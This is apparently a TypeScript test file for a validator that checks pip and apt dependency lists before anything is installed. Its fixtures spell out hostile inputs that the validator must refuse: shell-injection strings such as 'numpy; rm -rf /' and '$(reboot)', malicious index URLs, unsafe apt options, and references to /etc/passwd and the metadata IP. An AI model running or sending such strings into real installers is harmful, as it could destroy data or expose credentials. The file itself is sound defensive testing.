// The guard over dependency lists and apt's syntax: synchronous, before any subprocess.
import { Writable } from "node:stream";
import { pino } from "pino";
import { describe, expect, it } from "vitest";
import {
  DependencyInstallError,
  DependencySpecError,
  installDependencies,
  parseAptPackage,
  parseDependencyRequest,
  parseRequirement,
  requirementKey,
  type RequirementChecker,
} from "../../handler/deps/index.ts";
import { SpecRejection } from "../../handler/deps/requirement-spec.ts";

describe("parseRequirement: the guard, not a parser", () => {
  it.each([
    // Syntax is packaging's to judge (corpus.test.ts): these pass the guard whatever packaging says of them.
    "numpy",
    "torch < 3 , >= 2.1",
    "requests [socks] ~= 2.31",
    "pkg ~= 1",
    "pkg>=1.0,",
    "my package",
    "numpy;ls",
    "numpy > /etc/passwd",
    "pkg; platform_machine not in 'arm64 aarch64'",
  ])("lets %j through", (input) => {
    expect(parseRequirement(input).raw).toBe(input);
  });

  it("keeps the entry as given, trimmed, and its position", () => {
    expect(parseRequirement("  Requests[socks] >= 2 ; python_version >= '3.8'  ", {}, 4)).toEqual({
      raw: "Requests[socks] >= 2 ; python_version >= '3.8'",
      index: 4,
      key: "requests[socks]>=2 ; python_version>='3.8'",
    });
  });

  const bad: Array<[string, RegExp]> = [
    ["--index-url=https://evil.example/simple", /begins with '-'/],
    ["-e .", /begins with '-'/],
    ["-r requirements.txt", /begins with '-'/],
    ["numpy --index-url=https://evil.example", /contains the option '--index-url=https:\/\/evil.example'/],
    ["numpy -i https://evil.example", /contains the option '-i'/],
    ["numpy --pre", /contains the option '--pre'/],
    ["numpy; rm -rf /", /option '-rf'/],
    ["numpy | cat", /metacharacter '\|'/],
    ["numpy && curl evil", /metacharacter '&'/],
    ["numpy$(id)", /metacharacter '\$'/],
    ["numpy==$(id)", /metacharacter '\$'/],
    ["numpy`id`", /metacharacter '`'/],
    ["numpy\nrequests", /control character or line break/],
    ["http://example.com/pkg.whl", /bare URL; name the package: 'name @ http:\/\/example.com\/pkg.whl'/],
    ["https://example.com/pkg-1.0-py3-none-any.whl", /bare URL; name the package/],
    ["", /is empty/],
  ];
  it.each(bad)("refuses %j (%s)", (input, reason) => {
    expect(() => parseRequirement(input, { allowDirectReferences: true })).toThrow(SpecRejection);
    expect(() => parseRequirement(input, { allowDirectReferences: true })).toThrow(reason);
  });

  it("refuses direct references unless the setting allows them", () => {
    expect(() => parseRequirement("x @ https://169.254.169.254/latest/meta-data")).toThrow(/direct reference/);
    expect(() => parseRequirement("x @ file:///etc/passwd", { allowDirectReferences: false })).toThrow(/FERRY_ALLOW_DIRECT_REFERENCES=1/);
    expect(parseRequirement("x @ file:///tmp/x-1.0-py3-none-any.whl", { allowDirectReferences: true }).raw).toBe("x @ file:///tmp/x-1.0-py3-none-any.whl");
  });

  it("refuses non-strings", () => {
    expect(() => parseRequirement(42)).toThrow(/must be a string, got number/);
    expect(() => parseRequirement(null)).toThrow(/got null/);
  });
});

describe("requirementKey", () => {
  it.each([
    ["Ferry.Demo-Alpha == 1.0", "ferry_demo_alpha==1.0"],
    ["NumPy>=1.2, <2", "numpy >= 1.2,<2"],
    ["pkg ; python_version >= '3.9'", "pkg ;  python_version>='3.9'"],
    ["requests [ socks , a ] ( >= 2 )", "requests[socks,a](>=2)"],
  ])("%j and %j share a key", (a, b) => {
    expect(requirementKey(a)).toBe(requirementKey(b));
  });

  it.each([
    ["pkg; platform_machine in 'arm64 aarch64'", "pkg; platform_machine in 'arm64aarch64'"],
    ["pkg==1.0", "pkg==1.1"],
    ["pkg[a]", "pkg"],
    ["pkga", "pkg-a"],
    ["pkg_", "pkg-"],
    // Whitespace that packaging does not allow keeps the refused entry off the accepted one's key.
    ["my package", "mypackage"],
    ["pkg >= 1 .0", "pkg>=1.0"],
    ["pkg < =1", "pkg<=1"],
    ["pkg>=1,,<2", "pkg>=1,<2"],
    ["pkg> =1", "pkg>=1"],
    ["pkg; os_name not in 'nt'", "pkg; os_name notin 'nt'"],
    // A URL ends at whitespace: "a= b" is a URL and a stray word, "a=b" one URL.
    ["pkg @ https://x/a= b", "pkg @ https://x/a=b"],
    ["pkg @ https://x/p.whl ; os_name == 'nt'", "pkg @ https://x/p.whl; os_name == 'nt'"],
  ])("%j and %j do not", (a, b) => {
    expect(requirementKey(a)).not.toBe(requirementKey(b));
  });
});

describe("parseAptPackage", () => {
  it.each([
    ["hello", "hello"],
    ["libgl1", "libgl1"],
    ["g++", "g++"],
    ["libstdc++6=12.2.0-14", "libstdc++6=12.2.0-14"],
    ["python3.11-dev", "python3.11-dev"],
    ["ffmpeg=7:5.1.6-0+deb12u1", "ffmpeg=7:5.1.6-0+deb12u1"],
    ["libgl1:amd64", "libgl1:amd64"],
    ["curl/bookworm-backports", "curl/bookworm-backports"],
  ])("%s", (input, normalized) => {
    expect(parseAptPackage(input).normalized).toBe(normalized);
  });

  it.each([
    ["-o", /begins with '-'/],
    ["-oAPT::Get::AllowUnauthenticated=true", /begins with '-'/],
    ["--allow-unauthenticated", /begins with '-'/],
    ["hello world", /contains whitespace/],
    ["hello -o Dpkg::Options::=--force-all", /contains whitespace/],
    ["hello;ls", /metacharacter ';'/],
    ["hello|cat", /metacharacter '\|'/],
    ["$(id)", /metacharacter '\$'/],
    ["`id`", /metacharacter '`'/],
    ["Hello", /not a Debian package name/],
    ["hello:AMD64", /invalid architecture 'AMD64'/],
    ["python3-msgpack-", /reads as "remove this package"/],
    ["pkg+", /ends with '\+'/],
    ["ffmpeg=7:6.1_1", /invalid version '7:6.1_1'/],
    ["x", /not a Debian package name/],
    ["hello=", /invalid version ''/],
    ["hello=-1", /invalid version '-1'/],
    ["./local.deb", /not a Debian package name/],
    ["", /is empty/],
  ])("rejects %j", (input, reason) => {
    expect(() => parseAptPackage(input)).toThrow(reason);
  });
});

describe("parseDependencyRequest", () => {
  it("names every refused entry and why, in one error", () => {
    let error: unknown;
    try {
      parseDependencyRequest({ dependencies: ["numpy", "-e .", "x|y"], system_dependencies: ["hello", "-o"] });
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(DependencySpecError);
    expect(error).toBeInstanceOf(DependencyInstallError);
    const e = error as DependencySpecError;
    expect(e.errorType).toBe("InvalidRequest");
    expect(e.problems.map((p) => p.where)).toEqual(["dependencies[1]", "dependencies[2]", "system_dependencies[1]"]);
    expect(e.message).toBe(
      `Invalid dependency list: dependencies[1] "-e .": begins with '-': installer options (-e, -r, --index-url, ...) are not accepted, only requirements; ` +
        `dependencies[2] "x|y": contains the shell metacharacter '|'; ` +
        `system_dependencies[1] "-o": begins with '-': apt options (-o, --allow-..., ...) are not accepted, only package names`,
    );
  });

  it("drops duplicates (same key) and keeps the order and the positions", () => {
    const parsed = parseDependencyRequest({ dependencies: ["B", "a", "b", "c >= 1", "C>=1"], system_dependencies: ["hello", "hello"] });
    expect(parsed.python.map((p) => [p.raw, p.index])).toEqual([
      ["B", 0],
      ["a", 1],
      ["c >= 1", 3],
    ]);
    expect(parsed.system.map((p) => p.normalized)).toEqual(["hello"]);
    expect(parsed.accelerateDownloads).toBe(true);
  });

  it("accepts null lists from other clients", () => {
    expect(parseDependencyRequest({ dependencies: null, system_dependencies: null, accelerate_downloads: null })).toEqual({
      python: [],
      system: [],
      accelerateDownloads: true,
    });
  });

  it("rejects a non-list", () => {
    expect(() => parseDependencyRequest({ dependencies: "numpy" as unknown as string[] })).toThrow(DependencySpecError);
  });
});

describe("installDependencies refuses bad specs before anything runs", () => {
  const badLists: Array<{ dependencies?: string[]; system_dependencies?: string[] }> = [
    { dependencies: ["--index-url=https://evil.example/simple"] },
    { dependencies: ["-e ."] },
    { dependencies: ["numpy; rm -rf /"] },
    { dependencies: ["numpy | sh"] },
    { dependencies: ["numpy$(id)"] },
    { dependencies: ["numpy`id`"] },
    { dependencies: ["pkg @ http://example.com/pkg.whl"] },
    { system_dependencies: ["-o", "APT::Get::AllowUnauthenticated=true"] },
    { system_dependencies: ["hello world"] },
    { system_dependencies: ["hello;id"] },
    { dependencies: ["numpy"], system_dependencies: ["$(reboot)"] },
  ];

  it.each(badLists)("%j", async (request) => {
    // Every subprocess the worker starts goes through runLoggedSubprocess, which logs
    // "subprocess start" on the logger it is given: a debug logger that records every line
    // proves none started. The checker records that Python was not asked either.
    const lines: string[] = [];
    const logger = pino({ level: "trace" }, new Writable({ write: (chunk, _enc, done) => (lines.push(String(chunk)), done()) }));
    const calls: string[] = [];
    const engine: RequirementChecker = {
      python: "/nonexistent/python",
      checkRequirements: async (reqs) => (calls.push(`check ${reqs.join(",")}`), []),
      invalidateImportCaches: async () => void calls.push("invalidate"),
    };
    const error = await installDependencies(request, { engine, logger, system: { uid: 0, platform: "linux" } }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(DependencySpecError);
    expect(calls).toEqual([]);
    expect(lines.filter((l) => l.includes("subprocess start"))).toEqual([]);
    // And the same validation is available synchronously.
    expect(() => parseDependencyRequest(request)).toThrow(DependencySpecError);
  });
});
